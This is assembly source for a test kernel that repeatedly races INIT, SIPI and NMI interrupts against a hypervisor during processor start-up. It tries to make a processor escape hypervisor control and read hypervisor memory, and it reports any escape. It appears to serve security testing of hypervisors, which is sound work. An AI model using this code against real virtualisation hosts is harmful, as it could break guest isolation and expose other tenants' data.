; A kernel that tries again and again to make a processor escape from the hypervisor while it starts or stops. Its command line
; is described at read_command_line (watcher.inc). The letters:
;   n  an NMI from the I/O APIC, then a SIPI from it, for a processor that waits for a SIPI
;   i  an INIT from another processor, while a SIPI starts the processor. This needs three processors
;   c  an INIT from the I/O APIC, while the processor gets an INIT or a SIPI from another one. If INITs cannot be redirected, the
;      processor is lost. So there is one attempt for each processor except the first and the third
; After each, the I/O APIC sends a SIPI. No manual has such a SIPI, but in Bochs it starts a processor that waits in hardware.
; It prints its progress every 1,000 attempts, and at the end:
;   race: NAME = 0xVALUE
; It ends in a triple fault. `ESCAPED` is the number of the attempt in which a processor read the hypervisor's memory.

%include "bzimage.inc"
%include "print.inc"
%include "attempts.inc"
%include "random.inc"
%include "watcher.inc"
%include "ioApic.inc"

%define TELL_EVERY   1000
%define LONG         8192               ; rounds of a loop of two instructions
%define SOON         1024               ; counts of the time-stamp counter
%define CALL_SPREAD  2048

        lea     rsp, [stack_top]
        set_up_serial
        mov     rbx, rsi
        call    make_tables
        call    read_command_line
        call    prepare_watchers
        call    enter_high_half
        call    measure_start
        lea     rax, [attack_waiting]
        cmp     byte [kind], 'n'
        je      .chosen
        call    start_all
        lea     rax, [attack_starting]
        cmp     byte [kind], 'i'
        je      .chosen
        mov     eax, [others]
        dec     eax
        cmp     [attempts], rax
        jbe     .few
        mov     [attempts], rax
.few:   lea     rax, [attack_called]
.chosen:
        mov     r15, rax
        xor     ebp, ebp
.next:  cmp     rbp, [attempts]
        jae     .over
        inc     rbp
        call    r15
        call    compare_seen
        jne     .escaped
        mov     rax, rbp
        xor     edx, edx
        mov     ecx, TELL_EVERY
        div     rcx
        test    edx, edx
        jnz     .next
        mov     rax, rbp
        show    "attempts"
        jmp     .next
.escaped:
        mov     rax, rbp
        show    "ESCAPED"
        mov     eax, [abs SEEN]
        show    "it read"
.over:  mov     rax, rbp
        show    "attempts in all"
        mov     eax, [abs STARTS]
        show    "starts"
        mov     eax, [abs NMIS]
        show    "NMIs"
        mov     rax, [missed]
        show    "no answer"
        call    wait_for_print
        lidt    [nothing]
        ud2

attack_waiting:
        mov     eax, AS_NMI
        mov     ecx, 1
        call    arm_io_apic
        mov     eax, INIT
        mov     ecx, 1
        call    send
        call    delay
        call    fire_io_apic
        call    delay
        mov     ecx, 1
        call    start_by_io_apic
        mov     dword [abs LOOKS + 4], 0
        mov     ecx, 1
        jmp     start_and_expect

; Sends processor ecx a SIPI from the I/O APIC.
start_by_io_apic:
        mov     eax, SIPI & 0x7ff
        call    arm_io_apic
        call    fire_io_apic
        jmp     delay

; A SIPI starts the processor, then an INIT arrives. When the next SIPI or NMI arrives, the hypervisor must still control it.
attack_starting:
        mov     eax, INIT
        mov     ecx, 1
        call    send
        call    delay
        call    random
        test    eax, 0x600              ; mostly wait until the hypervisor has handled the INIT
        jz      .soon
        call    long_wait
.soon:  mov     dword [abs LOOKS + 4], 0
        call    send_sipi_and_init
        call    touch_apic
        call    random
        test    eax, 0x600
        jz      .sipi
        mov     eax, NMI
        mov     ecx, 1
        call    send
.sipi:  call    delay
        mov     ecx, 1
        call    start_by_io_apic
        mov     ecx, 1
        jmp     start_and_expect

; Processor 2 sends a command by its ICR. About when the hypervisor handles it, this processor makes the I/O APIC send the INIT.
; When the next command arrives, the hypervisor must still control the processor, or it must have stopped.
attack_called:
        mov     r12d, ebp
        cmp     ebp, 2
        jb      .victim
        inc     r12d                    ; not processor 2
.victim:
        mov     eax, AS_INIT
        mov     ecx, r12d
        call    arm_io_apic
        mov     dword [abs ORDERED], INIT
        call    random
        bt      eax, 9
        jc      .runs
        mov     dword [abs ORDERED], SIPI
        mov     eax, INIT
        mov     ecx, r12d
        call    send
        call    long_wait
.runs:  mov     eax, r12d
        shl     eax, 24
        mov     [abs ORDERED_TO], eax
        mov     ecx, CALL_SPREAD
        call    random_below
        mov     ebx, eax
        call    clock
        add     rax, SOON
        add     rbx, rax
        call    order
.until: call    clock
        cmp     rax, rbx
        jb      .until
        call    fire_io_apic
        call    wait_for_order
        call    delay
        call    touch_apic
        mov     eax, NMI
        mov     ecx, r12d
        call    send
        mov     ecx, r12d
        call    send_sipi
        mov     ecx, r12d
        call    start_by_io_apic
long_wait:
        mov     ecx, LONG
.wait:  dec     ecx
        jnz     .wait
        ret

; Measures an undisturbed start: the INIT before it has long been handled.
measure_start:
        mov     eax, INIT
        mov     ecx, 1
        call    send
        xor     ecx, ecx
        call    expect_look             ; of no processor: just waits
        mov     dword [abs LOOKS + 4], 0
        mov     ecx, 1
        call    start_and_expect
        mov     qword [missed], 0
        mov     rax, [start_takes]
        show    "a start takes"
        ret

; Starts all other processors as a kernel does.
start_all:
        xor     ecx, ecx
        mov     eax, OTHERS | INIT
        call    send
        mov     eax, OTHERS | SIPI
        xor     ecx, ecx
        call    send
        mov     r12d, 1
.next:  mov     ecx, r12d
        call    expect_look
        inc     r12d
        cmp     r12d, [others]
        jbe     .next
        jmp     touch_apic

; Starts processor ecx, and expects that it starts and looks.
start_and_expect:
        call    start_and_look
        jne     .end
        inc     qword [missed]
.end:   ret
; Expects that processor ecx looks.
expect_look:
        call    wait_for_look
        jne     .end
        inc     qword [missed]
.end:   ret

prefix:   db "race: ", 0
nothing:  dw 0
          dq 0
          align 8
missed:   dq 0

        align   16
protected_end:

%include "memory.inc"
